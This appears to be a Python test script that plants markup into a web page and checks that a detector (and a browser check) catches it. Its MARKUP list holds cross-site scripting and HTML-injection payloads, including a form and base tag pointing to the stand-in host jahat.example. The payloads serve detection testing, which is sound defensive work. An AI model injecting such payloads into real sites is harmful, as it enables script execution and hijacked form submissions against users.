"""Plants markup into a page, as if it had got in, and makes sure that it is found: here by the parser, and in the browser by
what is written down for it.

    planted.py ORIGIN FOLDER
"""

import json
import sys
from pathlib import Path

from selectolax.lexbor import LexborHTMLParser

from judge import Judge
from page import Page
from people import Person

MARKUP = [
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</textarea><form action=//jahat.example><button>Simpan</button></form>",
    "<script>alert(1)</script>",
    '<a href="javascript:alert(1)">x</a>',
    "<base href=//jahat.example>",
    "<!--x-->",
]


def main() -> int:
    origin, folder = sys.argv[1:]
    clean, judge = Person(origin, "").get("/usulan"), Judge(origin)
    judge.learn(clean)
    planted = [clean.body.replace("</h1>", f"{markup}</h1>", 1) for markup in MARKUP]
    missed = [
        markup for markup, body in zip(MARKUP, planted)
        if not judge.problems(Page(200, clean.headers, body, LexborHTMLParser(body)), [])
    ]
    answers = [{"address": f"/usulan?{number}", "body": body} for number, body in enumerate(planted[:2])]
    Path(folder, "browse.json").write_text(json.dumps({"pages": [], "answers": answers}))
    print(f"  {len(MARKUP) - len(missed)} of {len(MARKUP)} planted pieces of markup found{': missed ' + str(missed) if missed else ''}")
    return 1 if missed or judge.problems(clean, []) else 0


if __name__ == "__main__":
    sys.exit(main())
